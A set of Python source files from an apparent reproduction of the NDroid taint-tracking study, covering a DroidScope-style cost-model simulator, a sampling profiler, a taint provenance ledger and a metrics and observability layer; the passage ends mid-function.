                return self.taint.get_register(arg_index)
            return self.taint.get_memory(sp + 4 * (arg_index - 4), 4)

        string_taints, sources = self._capture_string_sources()
        try:
            data, taints = format_with_taints(
                memory, memory.read_cstring(fmt_ptr),
                read_vararg=read_vararg, vararg_taint=vararg_taint,
                string_taints=string_taints)
        except FormatError:
            return b"", TAINT_CLEAR, []
        label = TAINT_CLEAR
        for taint in taints:
            label |= taint
        return data, label, sources
