"""The DroidScope-style comparator (Yan & Yin, USENIX Security 2012).

DroidScope "tracks information flow at the instruction level by enhancing
QEMU", reconstructing both the OS-level and the DVM-level views purely
from machine instructions — with no JNI semantic shortcuts and no modelled
library summaries.  The paper uses it as the performance comparator
(Section VI.E: at least 11× slowdown vs NDroid's 5.45×) and notes it
"did not report new information flows through JNI than TaintDroid".

This simulation therefore reproduces DroidScope's *cost model*, not new
detection capability:

* every native instruction is taint-traced, in **every** region (system
  libraries included), with no hot-handler cache;
* every Dalvik instruction pays a DVM-view reconstruction step that
  re-reads the frame's register window from guest memory;
* every modelled library call is walked byte-by-byte as if its internals
  were being traced instruction by instruction.

Detection remains TaintDroid's (attached automatically), matching the
published result.
"""

from repro.droidscope.system import DroidScopeSim

__all__ = ["DroidScopeSim"]
