"""DroidScope cost-model implementation."""

from __future__ import annotations

from typing import Dict

from repro.core.instruction_tracer import InstructionTracer
from repro.core.taint_engine import TaintEngine
from repro.taintdroid import TaintDroid


class DroidScopeSim:
    """Whole-system instruction-level tracking, no JNI semantics."""

    def __init__(self, platform) -> None:
        self.platform = platform
        self.taint_engine = TaintEngine(event_log=None)
        # Unscoped tracer: every region counts as "in scope", and the
        # hot-handler cache is disabled (DroidScope re-derives semantics
        # per instruction).
        self.tracer = InstructionTracer(self.taint_engine,
                                        is_third_party=lambda address: True,
                                        handler_cache=False)
        self.dalvik_reconstructions = 0
        self.library_walk_bytes = 0
        self.context_lookups = 0

    def _trace(self, ir, emu) -> None:
        """Per-instruction pipeline: context tracking, then taint.

        With no cooperation from the guest, DroidScope must re-establish
        execution context for *every* instruction: map the PC to a module
        (a VMA walk over the reconstructed view) and consult its
        whole-system shadow memory for the instruction's operands, before
        running the taint-propagation logic itself.
        """
        self.context_lookups += 1
        pc = emu.cpu.pc
        for region in emu.memory_map:
            if region.contains(pc):
                break
        # Whole-system shadow lookups for the operand registers (DroidScope
        # keeps taint state in memory-mapped shadow, not native fields).
        shadow_base = 0xD500_0000
        for index in (0, 1, 2, 3):
            self.taint_engine.get_memory(shadow_base + 4 * index)
        self.tracer(ir, emu)

    @classmethod
    def attach(cls, platform) -> "DroidScopeSim":
        if platform.taintdroid is None:
            TaintDroid.attach(platform)
        sim = cls(platform)
        platform.droidscope = sim
        platform.emu.add_tracer(sim._trace)
        platform.vm.interpreter.listener = sim._reconstruct_dvm_view
        sim._hook_all_library_calls()
        platform.event_log.emit("droidscope", "attach",
                                "DroidScope-style instrumentation enabled")
        return sim

    # -- DVM-level view reconstruction ------------------------------------------

    def _reconstruct_dvm_view(self, frame, ins) -> None:
        """Re-derive the frame state from raw memory, per instruction.

        DroidScope has no cooperation from the DVM, so each interpreted
        instruction requires locating the frame and reading its register
        window out of guest memory.
        """
        self.dalvik_reconstructions += 1
        memory = self.platform.memory
        base = frame.fp
        for register in range(frame.register_count):
            memory.read_u32(base + 8 * register)
            memory.read_u32(base + 8 * register + 4)

    # -- instruction-level library tracing -----------------------------------------

    def _hook_all_library_calls(self) -> None:
        """Walk the data each libc/libm call touches, byte by byte.

        NDroid replaces this work with the Table VI summaries; DroidScope
        pays it for every call.
        """
        platform = self.platform
        buffer_walks = {
            "memcpy": (0, 1, 2), "memmove": (0, 1, 2), "memset": (0, None, 2),
            "memcmp": (0, 1, 2),
        }
        for name, address in platform.libc.symbols.items():
            if name in buffer_walks:
                platform.emu.add_entry_hook(
                    address, self._make_buffer_walk(*buffer_walks[name]))
            else:
                platform.emu.add_entry_hook(address, self._generic_walk)
        for address in platform.libm.symbols.values():
            platform.emu.add_entry_hook(address, self._generic_walk)

    def _make_buffer_walk(self, dest_arg, src_arg, len_arg):
        def hook(emu) -> None:
            length = min(emu.cpu.regs[len_arg], 1 << 16)
            self.library_walk_bytes += length
            dest = emu.cpu.regs[dest_arg]
            for offset in range(length):
                label = self.taint_engine.get_memory(
                    emu.cpu.regs[src_arg] + offset
                    if src_arg is not None else dest + offset)
                self.taint_engine.set_memory(dest + offset, 1, label)
        return hook

    def _generic_walk(self, emu) -> None:
        """Fixed per-call cost approximating a traced library prologue,
        body loop over the first argument's C string (when one exists),
        and epilogue."""
        pointer = emu.cpu.regs[0]
        length = 0
        if 0x1000 <= pointer < 0xF000_0000:
            try:
                length = min(
                    len(emu.memory.read_cstring(pointer, limit=4096)), 4096)
            except Exception:
                length = 0
        steps = 64 + length
        self.library_walk_bytes += steps
        for offset in range(steps):
            self.taint_engine.get_memory(pointer + offset)

    # -- statistics ---------------------------------------------------------------------

    def statistics(self) -> Dict[str, int]:
        return {
            "traced_instructions": self.tracer.traced_instructions,
            "dalvik_reconstructions": self.dalvik_reconstructions,
            "library_walk_bytes": self.library_walk_bytes,
        }
