"""The sampling profiler: TB-boundary PC samples → folded stacks.

QEMU-style instrumentation discipline (PR 2): sampling happens at
*translation-block boundaries*, where the dispatch loop already does
boundary work, never per instruction — one ``is not None`` check per
block when a profiler is attached, zero code on the path when not.  In
instrumented runs (tracers attached force the single-step engine) the
same check runs per step, so sampling keeps working at full
instrumentation.

Sampling rule: a sample is taken at the first boundary where the
retired-instruction count reaches ``next_sample``; the threshold then
advances by ``interval``.  Samples attribute to guest functions through
a :class:`SymbolResolver` built from the loaded modules' symbol tables
and the ViewReconstructor-visible module map, and export as
flamegraph-ready folded lines (``module;symbol count``).
"""

from __future__ import annotations

from bisect import bisect_right
from typing import Dict, IO, List, Optional, Tuple, Union

# A symbol more than this far behind the sampled PC is not credited;
# the sample falls back to its module (or an unknown bucket).
MAX_SYMBOL_DISTANCE = 0x10000


class SymbolResolver:
    """pc → ``module;symbol`` via sorted symbol tables + module map."""

    def __init__(self) -> None:
        self._symbols: List[Tuple[int, str, str]] = []
        self._sorted = False
        self._modules: List[Tuple[int, int, str]] = []

    def add_symbol(self, address: int, module: str, name: str) -> None:
        self._symbols.append((address & ~1, module, name))
        self._sorted = False

    def add_module(self, start: int, end: int, name: str) -> None:
        self._modules.append((start, end, name))

    def add_symbols(self, module: str, symbols: Dict[str, int]) -> None:
        for name, address in symbols.items():
            self.add_symbol(address, module, name)

    def _module_of(self, pc: int) -> Optional[str]:
        for start, end, name in self._modules:
            if start <= pc < end:
                return name
        return None

    def resolve(self, pc: int) -> str:
        if not self._sorted:
            self._symbols.sort(key=lambda entry: entry[0])
            self._sorted = True
        addresses = [entry[0] for entry in self._symbols]
        index = bisect_right(addresses, pc) - 1
        module = self._module_of(pc)
        if index >= 0:
            address, sym_module, name = self._symbols[index]
            if pc - address <= MAX_SYMBOL_DISTANCE and \
                    (module is None or module == sym_module):
                return f"{sym_module};{name}"
        if module is not None:
            return f"{module};0x{pc:08x}"
        return f"unknown;0x{pc:08x}"

    @classmethod
    def from_platform(cls, platform) -> "SymbolResolver":
        """Build from everything an :class:`AndroidPlatform` has mapped."""
        resolver = cls()
        for name, program in getattr(platform, "_loaded_libraries",
                                     {}).items():
            resolver.add_symbols(name, program.symbols)
        resolver.add_symbols("libc.so", platform.libc.symbols)
        resolver.add_symbols("libm.so", platform.libm.symbols)
        resolver.add_symbols("libdvm.so", platform.jni.symbols)
        for region in platform.emu.memory_map:
            resolver.add_module(region.start, region.end, region.name)
        return resolver


class SamplingProfiler:
    """Boundary-gated PC sampler; see the module docstring for the rule."""

    def __init__(self, interval: int = 128) -> None:
        self.interval = max(int(interval), 1)
        self.next_sample = self.interval
        self.samples: Dict[int, int] = {}
        self.sample_count = 0

    def take_sample(self, pc: int, instruction_count: int) -> None:
        """Record one PC hit; the dispatch loop gates the call on
        ``instruction_count >= next_sample`` so this never runs hot."""
        self.samples[pc] = self.samples.get(pc, 0) + 1
        self.sample_count += 1
        self.next_sample = instruction_count + self.interval

    def set_interval(self, interval: int) -> None:
        """Change the sampling interval, rearming the next threshold."""
        self.interval = max(int(interval), 1)
        self.next_sample = min(self.next_sample, self.interval) \
            if self.sample_count else self.interval

    def reset(self) -> None:
        self.samples.clear()
        self.sample_count = 0
        self.next_sample = self.interval

    # -- export ------------------------------------------------------------

    def folded(self, resolver: Optional[SymbolResolver] = None
               ) -> List[str]:
        """Flamegraph folded lines, heaviest first."""
        buckets: Dict[str, int] = {}
        for pc, count in self.samples.items():
            frame = (resolver.resolve(pc) if resolver is not None
                     else f"unknown;0x{pc:08x}")
            buckets[frame] = buckets.get(frame, 0) + count
        return [f"{frame} {count}" for frame, count in
                sorted(buckets.items(), key=lambda kv: (-kv[1], kv[0]))]

    def write_folded(self, target: Union[str, IO[str]],
                     resolver: Optional[SymbolResolver] = None) -> int:
        lines = self.folded(resolver)
        if isinstance(target, str):
            with open(target, "w") as handle:
                handle.write("\n".join(lines) + ("\n" if lines else ""))
        else:
            target.write("\n".join(lines) + ("\n" if lines else ""))
        return len(lines)
