"""The taint provenance ledger: typed propagation edges + path queries.

The paper's case studies (Section V, Figs. 6-9) are *walks*: taint enters
at a Java source, crosses JNI via ``dvmCallJNIMethod``, moves through
native instructions and modelled libc calls, and leaves at a sink
syscall.  Every engine that propagates taint appends a typed edge
``(src_loc, dst_loc, tag, mechanism, location)`` here; the query API then
reconstructs the full source→sink chain for any leak mechanically, and
exports it as JSONL (for tooling) or Graphviz DOT (the case-study
figures).

Locations are structural, not textual, so edges chain by *overlap*:

* ``reg``/``iref``/``dvreg`` locations match on their base value;
* ``mem`` locations match on byte-range intersection;
* ``java`` locations are coarse per-label nodes for the Java context
  (TaintDroid tracks variables, not addresses) and match on label
  intersection;
* ``api``/``sink`` locations match on name and terminate/begin chains.

The ledger is bounded (a ring): tracing a long run keeps the most recent
``maxlen`` edges and counts the drops, so observability can never grow
without bound (the same discipline as :class:`EventLog`'s ``maxlen``).
"""

from __future__ import annotations

import json
from collections import deque
from typing import Deque, Dict, IO, Iterable, Iterator, List, Optional, Union

LOC_KINDS = ("reg", "mem", "iref", "java", "dvreg", "api", "sink")


class Loc:
    """One taint location (see the module docstring for the kinds)."""

    __slots__ = ("kind", "base", "length", "name")

    def __init__(self, kind: str, base: int = 0, length: int = 0,
                 name: str = "") -> None:
        self.kind = kind
        self.base = base
        self.length = length
        self.name = name

    # -- constructors ------------------------------------------------------

    @classmethod
    def reg(cls, index: int) -> "Loc":
        return cls("reg", base=index)

    @classmethod
    def mem(cls, address: int, length: int = 1) -> "Loc":
        return cls("mem", base=address & 0xFFFFFFFF, length=max(length, 1))

    @classmethod
    def iref(cls, iref: int) -> "Loc":
        return cls("iref", base=iref)

    @classmethod
    def java(cls, label: int) -> "Loc":
        """A coarse Java-context node covering everything tagged ``label``."""
        return cls("java", base=label)

    @classmethod
    def dvreg(cls, slot_address: int) -> "Loc":
        return cls("dvreg", base=slot_address)

    @classmethod
    def api(cls, name: str) -> "Loc":
        return cls("api", name=name)

    @classmethod
    def sink(cls, name: str) -> "Loc":
        return cls("sink", name=name)

    # -- chaining ----------------------------------------------------------

    def overlaps(self, other: "Loc") -> bool:
        if self.kind != other.kind:
            return False
        if self.kind == "mem":
            return (self.base < other.base + other.length
                    and other.base < self.base + self.length)
        if self.kind == "java":
            return bool(self.base & other.base)
        if self.kind in ("api", "sink"):
            return self.name == other.name
        return self.base == other.base

    # -- rendering / serialisation ----------------------------------------

    def describe(self) -> str:
        if self.kind == "reg":
            return f"reg:r{self.base}"
        if self.kind == "mem":
            suffix = f"+{self.length}" if self.length > 1 else ""
            return f"mem:0x{self.base:08x}{suffix}"
        if self.kind == "iref":
            return f"iref:0x{self.base:x}"
        if self.kind == "java":
            return f"java:0x{self.base:x}"
        if self.kind == "dvreg":
            return f"dvreg:0x{self.base:08x}"
        return f"{self.kind}:{self.name}"

    def to_dict(self) -> Dict:
        return {"kind": self.kind, "base": self.base, "len": self.length,
                "name": self.name}

    @classmethod
    def from_dict(cls, data: Dict) -> "Loc":
        return cls(data["kind"], base=data.get("base", 0),
                   length=data.get("len", 0), name=data.get("name", ""))

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"<Loc {self.describe()}>"


class ProvenanceEdge:
    """One recorded propagation step: ``tag`` moved ``src`` → ``dst``."""

    __slots__ = ("seq", "tag", "mechanism", "src", "dst", "location")

    def __init__(self, seq: int, tag: int, mechanism: str, src: Loc,
                 dst: Loc, location: str = "") -> None:
        self.seq = seq
        self.tag = tag
        self.mechanism = mechanism
        self.src = src
        self.dst = dst
        self.location = location

    def format(self) -> str:
        text = (f"[{self.seq:06d}] {self.mechanism:<24} "
                f"{self.src.describe()} -> {self.dst.describe()} "
                f"tag=0x{self.tag:x}")
        if self.location:
            text += f" @{self.location}"
        return text

    def to_dict(self) -> Dict:
        return {"seq": self.seq, "tag": self.tag,
                "mechanism": self.mechanism, "location": self.location,
                "src": self.src.to_dict(), "dst": self.dst.to_dict()}

    @classmethod
    def from_dict(cls, data: Dict) -> "ProvenanceEdge":
        return cls(seq=data["seq"], tag=data["tag"],
                   mechanism=data["mechanism"],
                   src=Loc.from_dict(data["src"]),
                   dst=Loc.from_dict(data["dst"]),
                   location=data.get("location", ""))

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"<Edge {self.format()}>"


class ProvenancePath(List[ProvenanceEdge]):
    """A reconstructed source→sink walk, with truthful completeness flags.

    Behaves exactly like the plain edge list older callers expect, plus:

    * ``complete`` — the walk reached an ``api`` source: the path shows
      the full recorded journey of the taint;
    * ``at_horizon`` — the walk stopped at a non-source edge while the
      ring had already evicted earlier edges, so the true predecessor
      may have been dropped: the path is a *partial* reconstruction and
      must be reported as such, never presented as complete;
    * ``evicted`` — how many edges the ring had dropped at reconstruction
      time (the horizon's depth).
    """

    def __init__(self, edges: Iterable[ProvenanceEdge] = (),
                 complete: bool = False, at_horizon: bool = False,
                 evicted: int = 0) -> None:
        super().__init__(edges)
        self.complete = complete
        self.at_horizon = at_horizon
        self.evicted = evicted

    @property
    def partial(self) -> bool:
        return bool(self) and not self.complete


class ProvenanceLedger:
    """Bounded append-only edge store with source→sink reconstruction."""

    def __init__(self, maxlen: int = 65536) -> None:
        self._edges: Deque[ProvenanceEdge] = deque(maxlen=maxlen)
        self._seq = 0
        self.maxlen = maxlen

    def __len__(self) -> int:
        return len(self._edges)

    def __iter__(self) -> Iterator[ProvenanceEdge]:
        return iter(self._edges)

    @property
    def dropped(self) -> int:
        """Edges evicted by the ring bound."""
        return self._seq - len(self._edges)

    # -- recording ---------------------------------------------------------

    def record(self, tag: int, mechanism: str, src: Loc, dst: Loc,
               location: str = "") -> Optional[ProvenanceEdge]:
        """Append one edge; clear tags are not provenance and are skipped."""
        if not tag:
            return None
        edge = ProvenanceEdge(self._seq, tag, mechanism, src, dst, location)
        self._seq += 1
        self._edges.append(edge)
        return edge

    def clear(self) -> None:
        self._edges.clear()
        self._seq = 0

    # -- queries -----------------------------------------------------------

    def sink_edges(self, taint: int = 0,
                   destination: Optional[str] = None
                   ) -> List[ProvenanceEdge]:
        """Edges whose destination is a sink, optionally filtered."""
        return [edge for edge in self._edges
                if edge.dst.kind == "sink"
                and (not taint or edge.tag & taint)
                and (destination is None or edge.dst.name == destination)]

    def _pick_sink_edge(self, taint: int, destination: Optional[str]
                        ) -> Optional[ProvenanceEdge]:
        candidates = self.sink_edges(taint, destination)
        if not candidates:
            return None
        # Prefer a sink edge with a precise native-memory source (it
        # chains through the native segment); ties go to the latest.
        precise = [edge for edge in candidates if edge.src.kind == "mem"]
        return (precise or candidates)[-1]

    def reconstruct(self, edge: Optional[ProvenanceEdge] = None, *,
                    taint: int = 0, destination: Optional[str] = None,
                    max_hops: int = 256) -> ProvenancePath:
        """Walk backwards from a sink edge to the source (Figs. 6-9).

        Each hop finds the latest earlier edge whose destination overlaps
        the current edge's source and whose tag intersects it; the walk
        ends at an ``api`` source, the ledger's horizon, or ``max_hops``.
        Returns the path source-first (empty if no sink edge matches).

        After ring eviction the walk may run out of recorded history
        before reaching a source.  The returned :class:`ProvenancePath`
        is truthful about that: ``complete`` is set only when the walk
        reached an ``api`` source, and ``at_horizon`` flags a walk that
        stopped while evicted edges could have held the predecessor —
        such a path is a partial reconstruction, not a full one.
        """
        if edge is None:
            edge = self._pick_sink_edge(taint, destination)
            if edge is None:
                return ProvenancePath(evicted=self.dropped)
        edges = list(self._edges)
        path = [edge]
        seen = {edge.seq}
        current = edge
        for __ in range(max_hops):
            if current.src.kind == "api":
                break
            predecessor = None
            for candidate in reversed(edges):
                if candidate.seq >= current.seq or candidate.seq in seen:
                    continue
                if candidate.tag & current.tag and \
                        candidate.dst.overlaps(current.src):
                    predecessor = candidate
                    break
            if predecessor is None:
                break
            seen.add(predecessor.seq)
            path.append(predecessor)
            current = predecessor
        path.reverse()
        complete = path[0].src.kind == "api"
        # Not complete + edges already evicted: the true predecessor may
        # have been dropped by the ring, so the walk ended at the horizon.
        at_horizon = not complete and self.dropped > 0
        return ProvenancePath(path, complete=complete,
                              at_horizon=at_horizon, evicted=self.dropped)

    def paths(self, taint: int = 0) -> List[ProvenancePath]:
        """One reconstructed path per distinct sink destination."""
        results = []
        seen_sinks = set()
        for edge in self.sink_edges(taint):
            key = (edge.dst.name, edge.tag)
            if key in seen_sinks:
                continue
            seen_sinks.add(key)
            best = self._pick_sink_edge(edge.tag, edge.dst.name)
            path = self.reconstruct(best)
            if path:
                results.append(path)
        return results

    # -- export ------------------------------------------------------------

    def to_jsonl(self, target: Union[str, IO[str]]) -> int:
        """Write every edge as one JSON object per line; returns count."""
        if isinstance(target, str):
            with open(target, "w") as handle:
                return self.to_jsonl(handle)
        count = 0
        for edge in self._edges:
            target.write(json.dumps(edge.to_dict(), sort_keys=True) + "\n")
            count += 1
        return count

    @classmethod
    def from_jsonl(cls, source: Union[str, Iterable[str]],
                   maxlen: int = 65536) -> "ProvenanceLedger":
        if isinstance(source, str):
            with open(source) as handle:
                return cls.from_jsonl(list(handle), maxlen=maxlen)
        ledger = cls(maxlen=maxlen)
        for line in source:
            line = line.strip()
            if not line:
                continue
            edge = ProvenanceEdge.from_dict(json.loads(line))
            ledger._edges.append(edge)
            ledger._seq = max(ledger._seq, edge.seq + 1)
        return ledger

    def to_dot(self, paths: Optional[List[List[ProvenanceEdge]]] = None
               ) -> str:
        """Render reconstructed flows as a Graphviz digraph."""
        if paths is None:
            paths = self.paths()
        lines = ["digraph provenance {", "  rankdir=LR;",
                 '  node [shape=box, fontname="monospace"];']
        node_ids: Dict[str, str] = {}

        def node(loc: Loc) -> str:
            label = loc.describe()
            if label not in node_ids:
                node_ids[label] = f"n{len(node_ids)}"
                shape = {"api": "ellipse", "sink": "doubleoctagon",
                         "java": "diamond"}.get(loc.kind, "box")
                lines.append(f'  {node_ids[label]} [label="{label}", '
                             f'shape={shape}];')
            return node_ids[label]

        emitted = set()
        for path in paths:
            for edge in path:
                src, dst = node(edge.src), node(edge.dst)
                key = (src, dst, edge.mechanism)
                if key in emitted:
                    continue
                emitted.add(key)
                label = f"{edge.mechanism}\\n0x{edge.tag:x}"
                if edge.location:
                    label += f"\\n{edge.location}"
                lines.append(f'  {src} -> {dst} [label="{label}"];')
        lines.append("}")
        return "\n".join(lines) + "\n"

    def format_path(self, path: List[ProvenanceEdge]) -> str:
        lines = ["  " + edge.format() for edge in path]
        if getattr(path, "at_horizon", False):
            evicted = getattr(path, "evicted", 0)
            lines.insert(0, f"  ... [partial: upstream history evicted at "
                            f"the ring horizon ({evicted} edges dropped)]")
        return "\n".join(lines)
