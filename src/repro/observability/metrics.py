"""The metrics registry: counters/gauges/histograms + pull sources.

Two registration styles, chosen for cost:

* **pull sources** — a module registers a closure returning a dict of
  name→value; the closure runs only at ``snapshot()`` time, so modules
  that already keep counters (the emulator's ``instruction_count``, the
  kernel's syscall tally, NDroid's ``statistics()``) are observable at
  literally zero runtime cost;
* **push instruments** — :class:`Counter`/:class:`Gauge`/
  :class:`Histogram` for event-driven values with no existing home
  (supervisor retries, watchdog firings, bench results).

``snapshot()`` flattens everything into ``prefix.name -> number``, the
form the ``repro report`` overhead tables consume; ``diff_snapshots``
produces the Table IV/V-style two-run comparison rows.
"""

from __future__ import annotations

import json
import math
from typing import Callable, Dict, IO, List, Optional, Tuple, Union

Number = Union[int, float]
Source = Callable[[], Dict[str, Number]]


class Counter:
    """A monotonically increasing value."""

    __slots__ = ("name", "value")

    def __init__(self, name: str) -> None:
        self.name = name
        self.value: Number = 0

    def inc(self, amount: Number = 1) -> None:
        self.value += amount


class Gauge:
    """A point-in-time value (set, not accumulated)."""

    __slots__ = ("name", "value")

    def __init__(self, name: str) -> None:
        self.name = name
        self.value: Number = 0

    def set(self, value: Number) -> None:
        self.value = value


class Histogram:
    """Summary statistics plus percentiles over recorded observations.

    Percentiles come from a bounded reservoir of retained samples
    (``SAMPLE_CAP``): the first ``SAMPLE_CAP`` observations are kept
    verbatim, after which each new one deterministically overwrites a
    slot keyed by the running count (Knuth multiplicative hash) — no
    RNG, so two identical runs summarise identically.
    """

    SAMPLE_CAP = 512

    __slots__ = ("name", "count", "total", "minimum", "maximum", "_samples")

    def __init__(self, name: str) -> None:
        self.name = name
        self.count = 0
        self.total: Number = 0
        self.minimum: Optional[Number] = None
        self.maximum: Optional[Number] = None
        self._samples: List[Number] = []

    def record(self, value: Number) -> None:
        self.count += 1
        self.total += value
        if self.minimum is None or value < self.minimum:
            self.minimum = value
        if self.maximum is None or value > self.maximum:
            self.maximum = value
        if len(self._samples) < self.SAMPLE_CAP:
            self._samples.append(value)
        else:
            self._samples[(self.count * 2654435761) % self.SAMPLE_CAP] = value

    @property
    def mean(self) -> float:
        return self.total / self.count if self.count else 0.0

    def percentile(self, q: float) -> Number:
        """Nearest-rank percentile over the retained samples."""
        if not self._samples:
            return 0
        ordered = sorted(self._samples)
        rank = math.ceil(q / 100.0 * len(ordered)) - 1
        return ordered[max(0, min(len(ordered) - 1, rank))]

    def summary(self) -> Dict[str, Number]:
        return {"count": self.count, "sum": self.total,
                "min": self.minimum or 0, "max": self.maximum or 0,
                "mean": round(self.mean, 6),
                "p50": self.percentile(50),
                "p95": self.percentile(95),
                "p99": self.percentile(99)}


class MetricsRegistry:
    """Named instruments plus pull sources, flattened by ``snapshot()``."""

    def __init__(self) -> None:
        self._counters: Dict[str, Counter] = {}
        self._gauges: Dict[str, Gauge] = {}
        self._histograms: Dict[str, Histogram] = {}
        self._sources: List[Tuple[str, Source]] = []
        self._source_gauges: Dict[str, Tuple[str, ...]] = {}

    # -- instruments -------------------------------------------------------

    def counter(self, name: str) -> Counter:
        instrument = self._counters.get(name)
        if instrument is None:
            instrument = self._counters[name] = Counter(name)
        return instrument

    def gauge(self, name: str) -> Gauge:
        instrument = self._gauges.get(name)
        if instrument is None:
            instrument = self._gauges[name] = Gauge(name)
        return instrument

    def histogram(self, name: str) -> Histogram:
        instrument = self._histograms.get(name)
        if instrument is None:
            instrument = self._histograms[name] = Histogram(name)
        return instrument

    # -- pull sources ------------------------------------------------------

    def register_source(self, prefix: str, source: Source,
                        gauges: Tuple[str, ...] = ()) -> None:
        """Attach a snapshot-time closure; its keys land under ``prefix.``.

        ``gauges`` names the source keys that are point-in-time values
        rather than monotonic counters — fleet merging must not sum
        those across workers (see ``farm/merge.merge_metrics``).
        """
        self._sources.append((prefix, source))
        if gauges:
            self._source_gauges[prefix] = tuple(gauges)

    def unregister_source(self, prefix: str) -> None:
        self._sources = [(p, s) for p, s in self._sources if p != prefix]
        self._source_gauges.pop(prefix, None)

    def gauge_keys(self) -> List[str]:
        """Fully-qualified names of every gauge-typed metric.

        Covers push :class:`Gauge` instruments and the source keys
        declared via ``register_source(..., gauges=...)``; shipped with
        each worker's snapshot so the merge layer knows what not to sum.
        """
        names = set(self._gauges)
        for prefix, keys in self._source_gauges.items():
            for key in keys:
                names.add(f"{prefix}.{key}")
        return sorted(names)

    # -- flattening --------------------------------------------------------

    def snapshot(self) -> Dict[str, Number]:
        """Every metric as a flat ``name -> number`` dict."""
        data: Dict[str, Number] = {}
        for prefix, source in self._sources:
            for key, value in source().items():
                data[f"{prefix}.{key}"] = value
        for name, counter in self._counters.items():
            data[name] = counter.value
        for name, gauge in self._gauges.items():
            data[name] = gauge.value
        for name, histogram in self._histograms.items():
            for stat, value in histogram.summary().items():
                data[f"{name}.{stat}"] = value
        return data

    def write_json(self, target: Union[str, IO[str]]) -> Dict[str, Number]:
        snapshot = self.snapshot()
        if isinstance(target, str):
            with open(target, "w") as handle:
                json.dump(snapshot, handle, indent=2, sort_keys=True)
                handle.write("\n")
        else:
            json.dump(snapshot, target, indent=2, sort_keys=True)
        return snapshot


def load_snapshot(path: str) -> Dict[str, Number]:
    with open(path) as handle:
        return json.load(handle)


def diff_snapshots(current: Dict[str, Number],
                   baseline: Dict[str, Number]
                   ) -> List[Tuple[str, Optional[Number],
                                   Optional[Number], Optional[float]]]:
    """Rows of ``(name, baseline, current, ratio)`` over both snapshots.

    ``ratio`` is ``current / baseline`` when both sides are non-zero
    numbers, else ``None`` (rendered ``-`` by the report).
    """
    rows = []
    for name in sorted(set(current) | set(baseline)):
        base = baseline.get(name)
        cur = current.get(name)
        ratio = None
        if base and cur is not None:
            ratio = cur / base
        rows.append((name, base, cur, ratio))
    return rows
