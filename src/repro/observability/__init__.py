"""Unified observability layer: ledger, metrics, profiler.

One facade object per platform gathers the three observability
facilities the paper's evaluation needs:

* a :class:`ProvenanceLedger` recording every taint-propagation step so a
  leak's complete source->sink path can be reconstructed (case studies,
  Section VI.B);
* a :class:`MetricsRegistry` of counters/gauges and *pull* sources over
  the emulator/kernel/DVM/core statistics already kept by the engines
  (Tables IV/V overhead breakdowns);
* a TB-boundary :class:`SamplingProfiler` attributing instruction counts
  to guest functions.

Everything is zero-cost when disabled: the engines hold a ``ledger``
attribute that stays ``None`` (one attribute read behind an existing
taint check), the metrics sources are snapshot-time closures, and the
profiler is only attached to the emulator while tracing is enabled.
"""

from __future__ import annotations

from typing import Optional

from repro.observability.ledger import (  # noqa: F401
    Loc,
    ProvenanceEdge,
    ProvenanceLedger,
    ProvenancePath,
)
from repro.observability.metrics import (  # noqa: F401
    Counter,
    Gauge,
    Histogram,
    MetricsRegistry,
    diff_snapshots,
    load_snapshot,
)
from repro.observability.profiler import (  # noqa: F401
    SamplingProfiler,
    SymbolResolver,
)
from repro.observability.schema import (  # noqa: F401
    TRACE_SCHEMA,
    validate_trace,
)
from repro.observability.spans import (  # noqa: F401
    SpanTracer,
    attach_spans,
)


class Observability:
    """Per-platform facade wiring the three facilities to the engines."""

    def __init__(self, ledger_capacity: int = 65536,
                 profile_interval: int = 128) -> None:
        self.metrics = MetricsRegistry()
        self.ledger: Optional[ProvenanceLedger] = None
        self.profiler: Optional[SamplingProfiler] = None
        self.spans: Optional[SpanTracer] = None
        self._ledger_capacity = ledger_capacity
        self._profile_interval = profile_interval
        self._platform = None
        self._ndroid = None

    @property
    def tracing(self) -> bool:
        return self.ledger is not None

    # -- enabling --------------------------------------------------------------

    def enable_tracing(self) -> ProvenanceLedger:
        """Turn on provenance recording and the sampling profiler."""
        if self.ledger is None:
            self.ledger = ProvenanceLedger(maxlen=self._ledger_capacity)
            self.profiler = SamplingProfiler(interval=self._profile_interval)
            ledger = self.ledger
            self.metrics.register_source("ledger", lambda: {
                "edges": len(ledger),
                "dropped": ledger.dropped,
            }, gauges=("edges",))
            self._propagate()
        return self.ledger

    def disable_tracing(self) -> None:
        if self.ledger is None:
            return
        self.ledger = None
        self.profiler = None
        self.metrics.unregister_source("ledger")
        self._propagate()

    # -- wiring ----------------------------------------------------------------

    def wire(self, platform) -> None:
        """Register pull sources over the platform engines' counters."""
        self._platform = platform
        emu, kernel, vm = platform.emu, platform.kernel, platform.vm
        jni = platform.jni

        def persist_counters(layer, prefix):
            # The persistence object attaches after wire() (or never);
            # read it dynamically so the source tracks attachment.
            persistence = getattr(platform, "persistence", None)
            if persistence is None:
                return {}
            counters = persistence.counters[layer]
            return {f"{prefix}.{key}": value
                    for key, value in counters.items()}

        def emulator_source():
            values = {
                "instructions": emu.instruction_count,
                "host_calls": emu.host_call_count,
                "decodes": emu.decode_count,
                "tb.blocks": emu.translation_stats()["blocks"],
                "tb.translations": emu.translation_stats()["translations"],
                "tb.invalidations":
                    emu.translation_stats()["invalidations"],
                "tb.hits": emu._tb_cache.hits,
                "tb.misses": emu._tb_cache.misses,
            }
            values.update(persist_counters("tb", "tb.persist"))
            return values

        self.metrics.register_source("emulator", emulator_source,
                                     gauges=("tb.blocks",))

        def kernel_source():
            values = {"traps": kernel.syscall_count}
            for name, count in kernel.syscalls_by_name.items():
                values[f"syscall.{name}"] = count
            return values

        self.metrics.register_source("kernel", kernel_source)
        self.metrics.register_source("dalvik", lambda: {
            "instructions": vm.interpreter.instructions_executed,
            "gc_count": vm.heap.gc_count,
        })

        def tbc_source():
            tbc = vm.tbc
            if tbc is None:
                return {}
            values = {
                "hits": tbc.hits,
                "misses": tbc.misses,
                "invalidations": tbc.invalidations,
                "escalations": tbc.escalations,
                "blocks_compiled": tbc.blocks_compiled,
                "flushes": tbc.flushes,
                "cached_blocks": tbc.cached_blocks,
            }
            values.update(persist_counters("tbc", "persist"))
            return values

        self.metrics.register_source("dalvik.tbc", tbc_source,
                                     gauges=("cached_blocks",))

        def jni_source():
            values = {
                "trampoline.hits": jni.trampoline_hits,
                "trampoline.misses": jni.trampoline_misses,
                "trampoline.invalidations": jni.trampoline_invalidations,
                "trampoline.cached": len(jni._trampolines),
